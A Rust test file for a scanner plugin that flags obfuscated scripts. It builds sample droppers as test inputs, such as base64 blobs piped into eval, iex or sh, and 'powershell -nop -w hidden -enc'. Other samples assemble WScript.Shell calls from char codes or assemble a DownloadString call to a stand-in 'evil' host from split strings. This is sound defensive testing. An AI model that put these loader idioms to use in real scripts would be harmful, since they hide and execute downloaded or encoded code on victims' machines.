//! The built plugin, run through Vigil's real host on generated scripts.

use std::sync::OnceLock;

use vigil_sdk::harness::Harness;
use vigil_sdk::samples::random_bytes;

fn plugin() -> &'static Harness {
    static PLUGIN: OnceLock<Harness> = OnceLock::new();
    PLUGIN.get_or_init(|| {
        Harness::build_with(
            concat!(env!("CARGO_MANIFEST_DIR"), "/plugins/obfuscated-script"),
            env!("CARGO_BIN_EXE_vigil"),
        )
        .expect("plugin builds and loads")
    })
}

/// `len` characters of base64 text.
fn base64(len: usize) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    random_bytes(len, 11)
        .iter()
        .map(|b| ALPHABET[*b as usize % 64] as char)
        .collect()
}

#[test]
fn wants_scripts_by_extension_or_shebang() {
    let line = b"var a = document.getElementById('x');\n";
    assert!(plugin().wants("x.js", line));
    assert!(plugin().wants("x.PS1", b"Write-Host 'hello from a PowerShell script'"));
    assert!(plugin().wants("run", b"#!/bin/sh\necho starting the service now\n"));
    assert!(!plugin().wants("photo.jpg", &[0xff; 64]));
    assert!(
        !plugin().wants("x.js", b"f()"),
        "too small to hide anything"
    );
}

#[test]
fn encoded_payloads_fed_to_exec_are_detected() {
    let blob = base64(400);
    let samples = [
        (
            "dropper.js",
            format!("var p = \"{blob}\";\neval(atob(p));\n"),
        ),
        (
            "stager.ps1",
            format!(
                "$s = '{blob}'\niex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s)))\n"
            ),
        ),
        (
            "run.bat",
            format!("powershell -nop -w hidden -enc {blob}\n"),
        ),
        (
            "install.sh",
            format!("#!/bin/sh\necho {blob} | base64 -d | sh\n"),
        ),
        (
            "loader.py",
            format!("import base64\nexec(base64.b64decode('{blob}'))\n"),
        ),
        ("x.js", format!("eval(\"{}\")", "\\x41".repeat(80))),
    ];
    for (name, script) in samples {
        let threats = plugin().threats(name, script.as_bytes());
        assert_eq!(threats, ["Obfuscated:Script/EncodedExec"], "{name}");
    }
    let findings = plugin()
        .scan(
            "dropper.js",
            format!("var p = \"{blob}\";\neval(atob(p));\n").as_bytes(),
        )
        .unwrap();
    assert_eq!(findings[0].offset, Some(9), "points at the blob");
    // Obfuscation is suspicious, not proven: never rated high (so never quarantined by default).
    assert_eq!(findings[0].severity, vigil_sdk::Severity::Medium);
}

#[test]
fn char_codes_and_split_strings_are_detected() {
    let codes: Vec<String> = "var x = new ActiveXObject('WScript.Shell')"
        .bytes()
        .map(|b| b.to_string())
        .collect();
    let js = format!("eval(String.fromCharCode({}));", codes.join(","));
    assert_eq!(
        plugin().threats("a.js", js.as_bytes()),
        ["Obfuscated:Script/CharCodes"]
    );

    let ps_chars: Vec<String> = "Invoke-WebRequest http://x"
        .bytes()
        .map(|b| format!("[char]{b}"))
        .collect();
    let ps = format!("iex ({})", ps_chars.join("+"));
    assert_eq!(
        plugin().threats("a.ps1", ps.as_bytes()),
        ["Obfuscated:Script/CharCodes"]
    );

    let pieces: Vec<String> = "New-Object System.Net.WebClient).DownloadString('http://evil/x')"
        .as_bytes()
        .chunks(2)
        .map(|c| format!("'{}'", String::from_utf8_lossy(c).replace('\'', "")))
        .collect();
    let split = format!("iex ({})", pieces.join("+"));
    assert_eq!(
        plugin().threats("b.ps1", split.as_bytes()),
        ["Obfuscated:Script/StringSplitting"]
    );
}

#[test]
fn case_does_not_hide_anything_and_codes_count_per_line() {
    // The plugin matches without a lower-cased copy of the input: upper case must still count.
    let blob = base64(400);
    let upper = format!("var p = \"{blob}\";\nEVAL(ATOB(p));\n");
    assert_eq!(
        plugin().threats("a.js", upper.as_bytes()),
        ["Obfuscated:Script/EncodedExec"]
    );
    let escapes = "\\X41".repeat(80);
    let ps = format!("$s = \"{escapes}\"\nINVOKE-EXPRESSION $s\n");
    assert_eq!(
        plugin().threats("b.ps1", ps.as_bytes()),
        ["Obfuscated:Script/EncodedExec"]
    );
    let vbs: Vec<String> = "CreateObject(\"WScript.Shell\").Run"
        .bytes()
        .map(|b| format!("CHR({b})"))
        .collect();
    let vbs = format!("Execute({})", vbs.join(" & "));
    assert_eq!(
        plugin().threats("c.vbs", vbs.as_bytes()),
        ["Obfuscated:Script/CharCodes"]
    );
    // The same markers spread one per line are ordinary code, not a built string.
    let spread: Vec<String> = (65..100).map(|b| format!("x{b} = Chr({b})")).collect();
    let spread = format!("Execute(\"x\")\n{}\n", spread.join("\n"));
    assert!(plugin().threats("d.vbs", spread.as_bytes()).is_empty());
}

#[test]
fn ordinary_scripts_are_clean() {
    let blob = base64(4000);
    let clean = [
        // An embedded image decoded for display: a blob, a decoder, no execution.
        (
            "icon.js",
            format!(
                "const icon = \"data:image/png;base64,{blob}\";\nimg.src = icon;\nconst raw = atob(icon.split(',')[1]);\n"
            ),
        ),
        // A shell script that writes a decoded file.
        (
            "setup.sh",
            format!("#!/bin/sh\nset -e\necho '{blob}' | base64 -d > logo.png\n"),
        ),
        // Minified code: long lines, short names, eval nowhere near a blob.
        (
            "lib.min.js",
            format!(
                "{}\nfunction f(a){{return eval(a)}}",
                "a=b+c;d=e*f;".repeat(5000)
            ),
        ),
        // Plain PowerShell.
        (
            "backup.ps1",
            "$items = Get-ChildItem C:\\data\nforeach ($i in $items) { Copy-Item $i D:\\backup }\n"
                .to_string(),
        ),
        // Normal string concatenation with a sink elsewhere.
        (
            "page.js",
            format!(
                "var s = 'Hello, ' + name + '!';\n{}\neval(code);\n",
                "x = 'ab' + 'cd';\n".repeat(40)
            ),
        ),
    ];
    for (name, script) in clean {
        assert!(
            plugin().threats(name, script.as_bytes()).is_empty(),
            "{name}"
        );
    }
}
